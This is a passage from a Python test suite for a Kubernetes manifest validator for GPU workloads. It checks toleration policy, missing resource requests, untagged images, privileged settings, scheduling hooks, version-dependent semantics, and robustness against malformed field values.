    assert _policy(tolerations=toleration, affinity=preferred, context=context) == ["toleration-without-affinity"]
    # Without the pool's labels any required selector counts; without taints nothing is checked.
    unknown_pool = cluster_context(node_taint_labels={})
    assert _policy(tolerations=toleration, nodeSelector={"x": "y"}, context=unknown_pool) == []
    assert _policy(tolerations=toleration) == []


def test_gpu_taint_toleration_with_a_gpu_request_is_fine() -> None:
    toleration = [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}]
    assert _policy(tolerations=toleration, context=cluster_context()) == []
    doc = with_template(pod(tolerations=toleration))
    assert codes(run(template(), doc, context=cluster_context()), "policy") == []
    cpu_only = [container(limits={})]
    assert _policy(containers=cpu_only, tolerations=toleration, context=cluster_context()) == [
        "toleration-without-affinity"]


def test_tolerate_everything_warns() -> None:
    assert _policy(tolerations=[{"operator": "Exists"}], context=cluster_context()) == [
        "toleration-tolerates-everything"]


def test_missing_cpu_memory_requests_warn_for_every_container() -> None:
    bare = {"name": "main", "image": "nvcr.io/nvidia/cuda:12.4.1-base-ubuntu22.04",
            "resources": {"limits": {"nvidia.com/gpu": 1}}}
    init = {"name": "init", "image": "busybox:1.36", "resources": {"requests": {"cpu": "1"}}}
    report = run(pod(containers=[bare], initContainers=[init]))
    found = [f for f in report.findings if f.code == "missing-requests"]
    assert [f.path for f in found] == ["documents[0].spec.containers[0].resources.requests",
                                       "documents[0].spec.initContainers[0].resources.requests"]
    assert "cpu and no memory" in found[0].message
    assert "memory" in found[1].message
    assert all(f.severity == "warning" for f in found)


@pytest.mark.parametrize(("image", "flagged"), [("ubuntu", True), ("ubuntu:latest", True),
                                                ("registry:5000/ubuntu", True), ("ubuntu:22.04", False),
                                                ("registry:5000/ubuntu:22.04", False),
                                                ("ubuntu@sha256:" + "a" * 64, False)])
def test_latest_or_untagged_images_are_info(image: str, flagged: bool) -> None:
    report = run(pod(containers=[container(image=image, limits={"nvidia.com/gpu": 1})]))
    assert (codes(report) == ["image-latest"]) is flagged
    if flagged:
        assert report.findings[0].severity == "info"
        assert report.ok


def test_policy_applies_to_job_templates_and_init_containers() -> None:
    init = container("setup", securityContext={"privileged": True})
    doc = job(initContainers=[init], hostPID=True)
    report = run(doc)
    assert {f.path for f in report.findings if f.layer == "policy" and f.severity == "error"} == {
        "documents[0].spec.template.spec.initContainers[0].securityContext.privileged",
        "documents[0].spec.template.spec.hostPID",
    }


# Feasibility and dry-run hooks.


def test_feasibility_gets_each_pod_and_the_claims_and_paths_are_mapped() -> None:
    calls: list[tuple[dict[str, Any], list[dict[str, Any]]]] = []

    def feasibility(pod_doc: dict[str, Any], claims: list[dict[str, Any]]) -> list[ValidationFinding]:
        calls.append((pod_doc, claims))
        return [ValidationFinding("feasibility", "error", "spec.containers[0]", "0/9 nodes are available", "", "unschedulable")]

    report = run(template(), with_template(job("train", parallelism=2)), pod(),
                 context=ValidationContext(feasibility=feasibility))
    assert len(calls) == 2
    job_pod, claims = calls[0]
    assert job_pod["kind"] == "Pod"
    assert job_pod["metadata"]["namespace"] == NS
    assert job_pod["spec"]["resourceClaims"][0]["resourceClaimTemplateName"] == "train-gpus"
    assert [c["kind"] for c in claims] == ["ResourceClaimTemplate"]
    assert [f.path for f in report.findings if f.code == "unschedulable"] == [
        "documents[1].spec.template.spec.containers[0]", "documents[2].spec.containers[0]"]
    assert not report.ok


def test_broken_hooks_become_warnings() -> None:
    def broken(*_args: Any) -> list[ValidationFinding]:
        raise RuntimeError("simulator down")

    report = run(pod(), context=ValidationContext(feasibility=broken, dry_run=broken))
    assert codes(report) == ["feasibility-unavailable", "dry-run-unavailable"]
    assert report.ok


def test_dry_run_gets_all_documents_and_is_skipped_after_hard_schema_errors() -> None:
    seen: list[list[dict[str, Any]]] = []

    def dry_run(documents: list[dict[str, Any]]) -> list[ValidationFinding]:
        seen.append(documents)
        return [ValidationFinding("dry-run", "error", "documents[1].spec", "admission webhook denied", "", "denied")]

    report = run(template(), pod(), context=ValidationContext(dry_run=dry_run))
    assert len(seen[0]) == 2
    assert codes(report) == ["denied"]
    bad = pod()
    bad["spec"]["hostNetwork"] = "yes"
    report = run(template(), bad, context=ValidationContext(dry_run=dry_run))
    assert len(seen) == 1
    assert "layers-skipped" in codes(report, "dry-run")


# Robustness: no document shape makes a layer raise.

_HOSTILE_VALUES: list[Any] = [None, True, 0, -1, 10**30, 1.5, "", "x" * 5000, "\x00\u202e\n", [], {}, [None],
                              {"": None}, [[[]]], {"name": {"name": []}}, "0.5", "-1Gi", "1e400"]


def _mutations(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every path inside `value` (dict keys and list indexes)."""
    paths = [path]
    if isinstance(value, dict):
        for key, item in value.items():
            paths += _mutations(item, (*path, key))
    elif isinstance(value, list):
        for position, item in enumerate(value):
            paths += _mutations(item, (*path, position))
    return paths


def _replace(document: Any, path: tuple[Any, ...], value: Any) -> Any:
    if not path:
        return value
    copied = copy.deepcopy(document)
    target = copied
    for step in path[:-1]:
        target = target[step]
    target[path[-1]] = value
    return copied


def _run_layers_without_schema(documents: list[Any], context: ValidationContext) -> None:
    """The later layers on documents the schema layer would have stopped: they must not raise either."""
    from catalog.validation.objects import pod_holder
    from catalog.validation.policy import check_policy
    from catalog.validation.quota import check_quota
    from catalog.validation.semantics import Manifest, check_semantics

    indexed = [(i, d) for i, d in enumerate(documents) if isinstance(d, dict)]
    manifest = Manifest.of(indexed, "default")
    holders = []
    for index, document in indexed:
        check_semantics(index, document, context, manifest)
        holder = pod_holder(index, document)
        if holder is not None:
            holders.append(holder)
            check_policy(holder, context)
    check_quota(holders, [(i, d) for i, d in indexed if d.get("kind") in ("ResourceClaim", "ResourceClaimTemplate")],
                context, manifest)


@pytest.mark.slow  # generated documents (5 s)
def test_no_shape_of_document_makes_a_layer_raise() -> None:
    import random

    rng = random.Random(20260101)
    tolerations = [{"key": "dedicated", "operator": "Exists"}]
    base = [
        template("train-gpus", {"name": "gpus", "exactly": exactly(count=2, selectors=[
            {"cel": {"expression": "device.driver == 'gpu.nvidia.com'"}}], adminAccess=True)},
            {"name": "alt", "firstAvailable": [{"name": "a", "deviceClassName": "gpu.nvidia.com", "count": 1}]}),
        claim("shared", {"name": "gpus", "exactly": exactly(allocationMode="All", count=None)}),
        with_template(job(parallelism=2, completions=1, tolerations=tolerations, volumes=[
            {"name": "h", "hostPath": {"path": "/dev/nvidia0"}}])),
        pod(containers=[container(limits={"nvidia.com/gpu": 1, "cpu": "2"}, env=[{"name": "CUDA_VISIBLE_DEVICES",
                                                                                  "value": "0"}],
                                  securityContext={"privileged": True, "capabilities": {"add": ["SYS_ADMIN"]}})],
            initContainers=[container("init")], nodeSelector={"pool": "h100"}, tolerations=tolerations,
            resourceClaims=[{"name": "s", "resourceClaimName": "shared"}]),
    ]
    quotas = {NS: [{"name": "q", "hard": {"requests.nvidia.com/gpu": "4", "pods": "1", "requests.cpu": "1",
                                          "gpu.nvidia.com.deviceclass.resource.k8s.io/devices": "1",
                                          "count/resourceclaims.resource.k8s.io": "1", "limits.memory": "1Gi"},
                    "used": {}}]}
    context = cluster_context(quotas=quotas, feasibility=lambda _pod, _claims: [], dry_run=lambda _docs: [])
    checked = 0
    for position, document in enumerate(base):
        paths = _mutations(document)
        for path in rng.sample(paths, min(len(paths), 60)):
            for value in rng.sample(_HOSTILE_VALUES, 4):
                documents = list(base)
                documents[position] = _replace(document, path, value)
                report = validate_documents(documents, context)
                json.dumps(report.as_json())
                _run_layers_without_schema(documents, context)
                format_text(report)
                assert all(isinstance(f, ValidationFinding) and f.layer in (
                    "parse", "schema", "semantics", "policy", "quota", "feasibility", "dry-run")
                    and f.severity in ("error", "warning", "info") for f in report.findings)
                checked += 1
    assert checked > 500


@pytest.mark.parametrize(("toleration", "version", "expected"), [
    ({"key": "gpu", "operator": "Equal", "value": "x", "effect": "NoSchedule"}, "1.35.0", []),
    ({"key": "gpu", "operator": "Exists", "value": "x"}, "1.35.0", ["invalid-toleration"]),
    ({"operator": "Equal", "value": "x"}, "1.35.0", ["invalid-toleration"]),
    ({"key": "gpu", "operator": "Bigger", "value": "1"}, "1.35.0", ["invalid-toleration"]),
    ({"key": "gpu", "operator": "Lt", "value": "10"}, "1.34.0", ["toleration-operator-unsupported"]),
    ({"key": "gpu", "operator": "Gt", "value": "010"}, "1.35.0", ["invalid-toleration"]),
    ({"key": "gpu", "operator": "Gt", "value": "10"}, "1.35.0", ["toleration-operator-alpha"]),
])
def test_tolerations_follow_the_api_server_and_the_clusters_version(toleration: dict[str, Any], version: str,
                                                                     expected: list[str]) -> None:
    report = run(pod(tolerations=[toleration]), context=ValidationContext(kubernetes_version=version))
    found = [c for c in codes(report, "semantics") if "toleration" in c]
    assert found == expected


def test_a_node_affinity_requirement_that_does_not_parse_voids_its_term() -> None:
    affinity = {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [
        {"matchExpressions": [{"key": "pool", "operator": "NotIn", "values": ["not a label value!"]}]}]}}}
    report = run(pod(affinity=affinity))
    assert "invalid-node-affinity" in codes(report, "semantics", "error")
